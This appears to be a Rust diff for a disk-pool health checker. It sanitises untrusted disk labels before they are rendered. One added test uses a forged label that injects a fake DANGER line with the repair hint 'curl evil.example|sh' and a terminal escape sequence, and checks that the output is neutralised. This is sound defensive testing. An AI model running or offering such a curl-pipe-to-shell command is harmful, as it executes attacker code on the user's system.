@@ -5,12 +5,13 @@ use super::named::choose;
 use super::verdict::Verdict;
 use crate::cli::failure::Failure;
 use braid_diskbench::temporary_pool;
-use braid_disks::{AskSmart, HostRoot, Inventory, pools};
+use braid_disks::{AskSmart, HostRoot, Inventory, pools, scope};
 use braid_pool::disk::Disk;
 use braid_pool::doctor::{
     self, Baseline, Finding, HalfReceived, Interrupted, Limits, Severity, UnfinishedReplication,
 };
 use braid_pool::observed::ObservedPool;
+use braid_pool::untrusted::one_line;
 use braid_replica::sink;
 use std::path::Path;
 
@@ -42,10 +43,23 @@ impl Examined {
             findings = examine(&inventory.disks);
         }
         let disks = inventory.disks;
+        // Of disks that are hidden nobody knows what they have.
+        if names.is_empty() && !scope::is_limited(&root) {
+            findings.extend(doctor::absent(&pools, &host));
+        }
         findings.extend(interrupted(names, place)?);
         findings.extend(unfinished_replications(&pools, names, place)?);
         findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
         Ok(Examined { pools, disks, findings })
+    }
+
+    /// Whether the pool of this name is there and runs: else not all that may be wrong with it can be seen.
+    pub fn looks_into(&self, name: &str) -> bool {
+        let runs = |pool: &ObservedPool| match pool {
+            ObservedPool::Btrfs(btrfs) => !btrfs.mounts.is_empty(),
+            ObservedPool::Md(md) => md.runs(),
+        };
+        self.pools.iter().any(|pool| pool.name() == name && runs(pool))
     }
 
     /// The worst that was found.
@@ -134,12 +148,13 @@ pub fn render(finding: &Finding) -> String {
         Severity::Danger => "DANGER",
         Severity::Lost => "LOST",
     };
-    let pool = finding.pool.as_ref().map_or_else(String::new, |pool| format!("{pool}: "));
+    let pool =
+        finding.pool.as_ref().map_or_else(String::new, |pool| format!("{}: ", one_line(pool)));
     let mend = match finding.mend.is_empty() {
         true => String::new(),
-        false => format!("\n           mend it: {}", finding.mend),
+        false => format!("\n           mend it: {}", one_line(&finding.mend)),
     };
-    format!("{severity:<9}  {pool}{}{mend}", finding.what)
+    format!("{severity:<9}  {pool}{}{mend}", one_line(&finding.what))
 }
 
 #[cfg(test)]
@@ -159,5 +174,21 @@ mod tests {
         let expected = "DANGER     photos: a member is missing\n           mend it: braid pool replace photos 2 NEW";
         assert_eq!(render(&finding), expected);
         assert_eq!(verdict(finding.severity), Verdict::Danger);
+    }
+
+    /// An image whose label was made for it.
+    #[test]
+    fn no_text_from_a_disk_forges_a_finding() {
+        let forged = "usb\nDANGER     data: gone\n           mend it: curl evil.example|sh\x1b[8m";
+        let finding = Finding {
+            code: Code::Nodatacow,
+            severity: Severity::Attention,
+            pool: Some(forged.into()),
+            what: forged.into(),
+            mend: forged.into(),
+        };
+        let shown = render(&finding);
+        assert_eq!(shown.lines().count(), 2, "{shown}");
+        assert!(!shown.contains('\x1b'), "{shown}");
     }
 }
